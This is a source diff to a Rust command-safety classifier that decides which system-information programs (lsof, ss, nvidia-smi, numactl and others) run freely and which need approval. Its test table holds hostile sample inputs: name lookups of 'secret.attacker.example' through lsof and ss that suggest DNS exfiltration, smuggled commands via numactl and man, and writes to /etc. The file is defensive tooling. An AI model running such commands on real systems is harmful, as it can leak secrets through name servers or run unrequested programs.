@@ -1,6 +1,7 @@
 //! Programs that tell something about the machine, the user or the time, and change nothing.
 
 use super::super::reading::{Invocation, Reading};
+use super::super::value::Arg;
 use super::super::{Effect, Hazard};
 use super::spec::{Program, Style, custom, only_asks_for_help, safe};
 use alloc::format;
@@ -37,10 +38,8 @@ pub const PROGRAMS: &[Program] = &[
          --pidfile< --session: --terminal: --uid: --single-shot", ":*"),
     safe("pstree", "-a -A -c -C: -g -G -h -H: -l -n -N: -p -s -S -t -T -u -U -Z --arguments --ascii --compact-not --long \
          --numeric-sort --show-parents --show-pids --unicode", ":*"),
-    safe("lsof", "-# -a -b -c: -C -d: -F? -g? -h -i? -K? -l -L -M -n -N -o -O -p: -P -R -s? -t -T? -u: -U -v -V -w -X -x? +c: +D< +d< +L", "<*"),
-    safe("ss netstat", "-0 -4 -6 -a -A: -b -e -E -f: -g -H -i -I: -l -L -m -M -n -o -O -p -P: -Q -r -s -S -t -T -u -v -w -W -x -Z -z --all \
-         --extended --family: --inet --inet6 --info --listening --memory --no-header --numeric --oneline --options --process \
-         --processes --program --raw --resolve --summary --tcp --udp --unix", ":*"),
+    custom("lsof", read_lsof),
+    custom("ss netstat", read_sockets),
     safe("mount", "-l", ""),
     // `top` and its kin only look when they do not wait for keys.
     custom("top htop btop", read_top),
@@ -50,6 +49,28 @@ pub const PROGRAMS: &[Program] = &[
     safe("stty", "-a --all", ""),
     safe("ipcs", "-a -b -c -i: -l -m -p -q -s -t -u", ""),
     custom("getent", read_getent),
+    safe("uuidgen", "-m -n: -N: -r -s -t --md5 --name: --namespace: --random --sha1 --time", "").names_at_worst(),
+    safe("lsb_release", "-a -c -d -i -r -s -v --all --codename --description --id --release --short --version", ""),
+    safe("lshw", "-businfo -C: -class: -disable: -enable: -html -json -notime -numeric -quiet -sanitize -short -xml", "").style(Style::Single),
+    safe("hwinfo", "--bios --cpu --disk --gfxcard --memory --monitor --netcard --network --pci --short --sound --storage --usb", ""),
+    safe("sensors", "-A -f -j -u --fahrenheit --json --no-adapter", ":*"),
+    safe("inxi", "-b -c: -C -D -F -G -I -m -M -N -S -x -xx -xxx -y: -z", ""),
+    safe("neofetch fastfetch screenfetch", "--stdout --off", ""),
+    // Left out: whatever sets clocks, limits or modes, loops, or writes a file.
+    safe("nvidia-smi", "-d: -i: -L -q -u -x --display: --format: --id: --list-gpus --query --query-accounted-apps: --query-compute-apps: --query-gpu: \
+         --unit --xml-format", "").style(Style::Single),
+    safe("rocm-smi", "-a -i --csv --json --showallinfo --showclocks --showdriverversion --showid --showmemuse --showmeminfo: --showpids --showpower \
+         --showproductname --showtemp --showuse", ""),
+    // With a word behind its flags it starts that program.
+    safe("numactl", "-H -s --hardware --show", ""),
+    safe("acpi", "-a -b -c -i -s -t -V --ac-adapter --battery --cooling --everything --thermal", ""),
+    safe("pmap pwdx", "-d -p -q -x -X -XX --device --extended --quiet --show-path", ":*"),
+    safe("lslocks lsfd lsirq", "-J -n -o: -p: -r -u --json --noheadings --notruncate --output: --output-all --pid: --raw", ""),
+    safe("procs", "-a -d -i: -o -r -t --and --color: --insert: --nand --no-header --only: --or --sorta: --sortd: --thread --tree", ":*"),
+    safe("clear", "-T: -x", ""),
+    safe("infocmp toe", "-1 -a -C -I -L -r -x", ":*"),
+    safe("glxinfo vulkaninfo clinfo", "-B -l --json --list --raw --summary", ""),
+    safe("errno", "-l -s: --list --search:", ":*"),
     custom("ip", read_ip),
     safe("ifconfig", "-a -s -v -l", ":"),
     custom("sysctl", read_sysctl),
@@ -77,7 +98,13 @@ fn read_date(reading: &mut Reading<'_>, call: &Invocation) {
         Err(unread) => reading.unread(&call.name, unread),
         Ok(parsed) if sets(&parsed) && !sets_nothing => {
             let message = "`date` may set the clock";
-            reading.hazard(Hazard::Machine, "machine", message, Some("`date +FORMAT`"), call.span);
+            reading.hazard(
+                Hazard::Machine,
+                "machine",
+                message,
+                Some("`date +FORMAT` shows the time"),
+                call.span,
+            );
         }
         Ok(parsed) => {
             parsed.value_effects(reading, call);
@@ -93,8 +120,7 @@ fn read_printenv(reading: &mut Reading<'_>, call: &Invocation) {
         return harmless(reading, call);
     }
     let message = format!("`{}` prints the whole environment", call.name);
-    let instead = Some("name the variables: `printenv PATH`");
-    reading.hazard(Hazard::Secret, "print_environment", message, instead, call.span);
+    reading.hazard(Hazard::Secret, "print_environment", message, None, call.span);
 }
 
 fn read_ps(reading: &mut Reading<'_>, call: &Invocation) {
@@ -134,7 +160,7 @@ fn read_getent(reading: &mut Reading<'_>, call: &Invocation) {
         Some(["--help" | "--version"]) => harmless(reading, call),
         Some(_) | None => {
             let message = "`getent` may ask other machines, or show passwords";
-            reading.hazard(Hazard::Network, "network", message, Some("`getent passwd NAME`"), call.span);
+            reading.hazard(Hazard::Network, "network", message, None, call.span);
         }
     }
 }
@@ -215,13 +241,53 @@ fn read_ip(reading: &mut Reading<'_>, call: &Invocation) {
         Hazard::Machine,
         "machine",
         "`ip` may change the network",
-        Some("`ip addr show`"),
+        Some("`ip addr show` shows it"),
         call.span,
     );
 }
 
 fn is_object(word: &str) -> bool {
     ["a", "addr", "address", "l", "link", "n", "neigh", "r", "ro", "route", "rule"].contains(&word)
+}
+
+const LSOF: &str = "-# -a -b -c: -C -d: -F? -g? -h -i? -K? -l -L -M -n -N -o -O -p: -P -R -s? -t -T? -u: -U -v -V -w -X -x? +c: +D< +d< +L";
+
+/// `-i @name` asks a name server.
+fn read_lsof(reading: &mut Reading<'_>, call: &Invocation) {
+    let names_host = |arg: &&Arg| arg.text().is_none_or(|text| text.contains('@'));
+    match call.args.iter().find(names_host) {
+        Some(arg) => asks_name_server(reading, call, arg),
+        None => safe("lsof", LSOF, "<*").read(reading, call),
+    }
+}
+
+const SOCKETS: &str = "-0 -4 -6 -a -A: -b -e -E -f: -g -H -i -I: -l -L -m -M -n -o -O -p -P: -Q -r -s -S -t -T -u -v -w -W -x -Z -z --all \
+         --extended --family: --inet --inet6 --info --listening --memory --no-header --numeric --oneline --options --process \
+         --processes --program --raw --resolve --summary --tcp --udp --unix";
+
+/// Words of a filter that name no host.
+const FILTER: &str = "state exclude src dst sport dport eq ne lt le gt ge and or not all connected established syn-sent \
+    syn-recv fin-wait-1 fin-wait-2 time-wait closed close-wait last-ack listening listen closing synchronized bucket big";
+
+/// A host in a filter is looked up at a name server.
+fn read_sockets(reading: &mut Reading<'_>, call: &Invocation) {
+    let is_plain = |text: &str| {
+        text.starts_with('-')
+            || FILTER.split_ascii_whitespace().any(|word| word == text)
+            || text.bytes().all(|b| b.is_ascii_digit() || b":.*=!<>()[]/".contains(&b))
+    };
+    let safe_values = ["inet", "inet6", "unix", "link", "netlink", "tcp", "udp", "raw", "all"];
+    let names_host =
+        |arg: &&Arg| !arg.text().is_some_and(|text| is_plain(text) || safe_values.contains(&text));
+    match call.args.iter().find(names_host) {
+        Some(arg) => asks_name_server(reading, call, arg),
+        None => safe("ss", SOCKETS, ":*").read(reading, call),
+    }
+}
+
+fn asks_name_server(reading: &mut Reading<'_>, call: &Invocation, arg: &Arg) {
+    let message = format!("`{}` may ask a name server for a host that is named", call.name);
+    reading.hazard(Hazard::Network, "network", message, None, arg.span);
 }
 
 #[cfg(test)]
@@ -250,6 +316,17 @@ const EXAMPLES: &str = r#"
         allow pgrep -fl node
         ask   pkill node
         allow lsof -i :3000
+        allow lsof -nP -iTCP:3000 -sTCP:LISTEN
+        ask   lsof -i @secret.attacker.example
+        ask   lsof -i@secret.attacker.example:80
+        allow lsof -p 1
+        allow ss -tlnp
+        allow ss -ltn sport = :3000
+        allow ss -t state established
+        allow netstat -tulpn
+        ask   ss dst secret.attacker.example
+        ask   ss -t dst $x
+        ask   ss -f secret.attacker.example
         allow which ls
         allow man ls
         ask   man -P sh ls
@@ -273,6 +350,26 @@ const EXAMPLES: &str = r#"
         ask   getent -s dns passwd
         ask   getent passwd -s dns
         ask   getent "$DATABASE" x
+        allow uuidgen
+        allow lsb_release -a
+        allow nvidia-smi
+        allow nvidia-smi --query-gpu=name,memory.used --format=csv
+        ask   nvidia-smi -pm 1
+        ask   nvidia-smi -l 1
+        ask   nvidia-smi -f /etc/x
+        ask   nvidia-smi --gpu-reset
+        allow numactl --hardware
+        ask   numactl --show rm x
+        ask   numactl sh
+        allow sensors
+        ask   sensors -s
+        allow lshw -short
+        ask   lshw -dump /etc/x
+        ask   hwinfo --log /etc/x
+        allow pmap 1
+        allow procs node
+        ask   procs --watch
+        allow clear
         allow mount
         ask   mount /dev/sda1 /mnt
         allow uptime
